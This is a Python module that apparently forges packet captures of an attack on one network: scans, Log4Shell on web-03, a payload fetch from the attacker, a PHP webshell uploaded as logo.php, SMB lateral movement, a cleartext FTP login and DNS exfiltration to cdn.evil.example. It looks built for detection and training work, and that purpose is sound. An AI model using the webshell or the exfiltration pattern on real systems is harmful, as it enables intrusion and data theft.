"""An attacker's afternoon: kali-07 moves through the guests of one host while the others do their work.

00:05 sweep, 00:30 port scans, 01:30 Log4Shell on web-03, 02:30 a webshell there, 04:00 from web-03 to db-01 over SMB,
05:00 a password in clear to files-01, 06:00 the loot leaves in DNS names.
"""

import base64

from pcaps import apps, hello
from pcaps.forge_scan import NMAP_SYN
from pcaps.forge_web import log4shell, program
from pcaps.forge_windows import smb
from pcaps.talk import APP02, ATTACKER, DB01, FILES01, MAIL01, WEB03, WS21, WS22, Guest, Tcp, Wire, guest, refused

PORTS = (
    *range(20, 30), 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 636, 1433, 2049, 2375, 3306, 3389, 5432, 5900, 5985,
    6379, 8000, 8080, 8443, 9000, 9090, 9200, 10250, 11211, 27017, 50000,
)  # fmt: skip
"""What a hurried attacker tries first."""


def sweep(wire: Wire) -> None:
    for n in range(1, 37):
        wire.ping(ATTACKER, guest("somebody", n), n, b"", reply=n in {1, 2, 11, 12, 13, 14, 15, 21, 22})
        wire.wait(0.05)


def scan(wire: Wire, victim: Guest, open_ports: set[int]) -> None:
    for port in PORTS:
        if port in open_ports:
            talk = Tcp(wire, ATTACKER, victim, port)
            talk.send(0, "S", **NMAP_SYN)
            talk.send(1, "SA", window=64240, options=[("MSS", 1460)])
            wire.put(talk.segment(0, "R", window=0))
        else:
            refused(wire, ATTACKER, victim, port, **NMAP_SYN)
        wire.wait(0.01)


def agent(wire: Wire) -> None:
    """What the Java code does on web-03: fetch a program."""
    ask = apps.request("/agent", "10.20.0.66:8000", agent=apps.CURL)
    body = program("elf", wire.rng.randbytes(24000))
    apps.http(wire, WEB03, ATTACKER, (ask, apps.response(body, kind="application/octet-stream")), port=8000)


def webshell(wire: Wire) -> None:
    code = b'<?php system($_REQUEST["cmd"]); ?>'
    form = b'--x\r\nContent-Disposition: form-data; name="f"; filename="logo.php"\r\n\r\n' + code + b"\r\n--x--\r\n"
    upload = apps.request(
        "/upload.php", "web-03", method="POST", body=form, headers={"Content-Type": "multipart/form-data; boundary=x"}
    )
    use = apps.request("/uploads/logo.php?cmd=uname%20-a", "web-03", agent=apps.CURL)
    answer = apps.response(b"Linux web-03 6.1.0-21-amd64 #1 SMP Debian 6.1.90-1 x86_64 GNU/Linux\n")
    apps.http(wire, ATTACKER, WEB03, (upload, apps.response(b"ok\n")), (use, answer))


def psexec(wire: Wire) -> None:
    """From web-03 now, so that db-01's neighbours see a server they know."""
    talk = smb(wire, WEB03, DB01)
    talk.client(apps.smb2_tree_connect(r"\\db-01\ADMIN$")).server(apps.smb2_ok(3))
    talk.client(apps.smb2_create("svcctl")).server(apps.smb2_ok(5, 88))
    for pipe in ("stdin", "stdout", "stderr"):
        talk.client(apps.smb2_create(f"PSEXESVC-WEB-03-1021-{pipe}")).server(apps.smb2_ok(5, 88))
    for _ in range(4):
        talk.client(apps.smb2_write(wire.rng.randbytes(80))).server(apps.smb2_ok(9))
        wire.wait(0.5)
    talk.close()


def ftp(wire: Wire) -> None:
    talk = Tcp(wire, DB01, FILES01, 21).open()
    talk.server("220 files-01 FTP server (vsFTPd 3.0.3)\r\n")
    for ask, answer in (
        ("USER backup", "331 Please specify the password."), ("PASS Winter2025", "230 Login successful."),
        ("TYPE I", "200 Switching to Binary mode."), ("QUIT", "221 Goodbye."),
    ):  # fmt: skip
        talk.client(ask + "\r\n").server(answer + "\r\n")
        wire.wait(0.3)
    talk.close()


def exfiltration(wire: Wire) -> None:
    for n in range(45):
        data = base64.b32encode(wire.rng.randbytes(60)).decode().lower().strip("=")
        apps.lookup(wire, WEB03, f"{data[:60]}.{data[60:]}.{n:x}.cdn.evil.example", "CNAME", "ok.cdn.evil.example")
        wire.wait(0.4)


def everyday(wire: Wire) -> None:
    """What goes on besides, from the first second to the last."""
    for minute in range(7):
        start = 60.0 * minute
        wire.at(start + 1)
        apps.lookup(wire, WS21, "www.corp.example", "A", WEB03.ip)
        apps.http(wire, WS21, WEB03, (
            apps.request("/", "www.corp.example"), apps.response(apps.page("Welcome", 1500))),
            (apps.request(f"/news?page={minute}", "www.corp.example"), apps.response(apps.page(f"News {minute}", 2500)),
        ))  # fmt: skip
        wire.at(start + 12)
        apps.lookup(wire, APP02, "db-01.corp.example", "A", DB01.ip)
        hello.tls(wire, WS22, APP02)
        wire.at(start + 25)
        body = b'{"order": %d, "items": [1, 2, 3]}' % (4711 + minute)
        order = apps.request("/api/v1/orders", "app-02:8080", method="POST", agent="orders/2.1", body=body)
        apps.http(
            wire,
            WEB03,
            APP02,
            (order, apps.response(b'{"ok": true}', "201 Created", kind="application/json")),
            port=8080,
        )
        wire.at(start + 40)
        wire.ping(APP02, DB01, minute)
        if minute % 3 == 0:
            apps.ssh(wire, WS21, MAIL01)


def captures() -> dict[str, Wire]:
    wire = Wire(seed=30)
    everyday(wire)
    sweep(wire.at(5))
    for n, (victim, open_ports) in enumerate(
        ((WEB03, {22, 80, 8080}), (APP02, {22, 443, 8080}), (DB01, {445, 1433, 5432}))
    ):
        scan(wire.at(30 + 4 * n), victim, open_ports)
    log4shell(wire.at(90), WEB03)
    agent(wire.wait(1))
    webshell(wire.at(150))
    psexec(wire.at(240))
    ftp(wire.at(300))
    exfiltration(wire.at(360))
    return {"demo": wire}
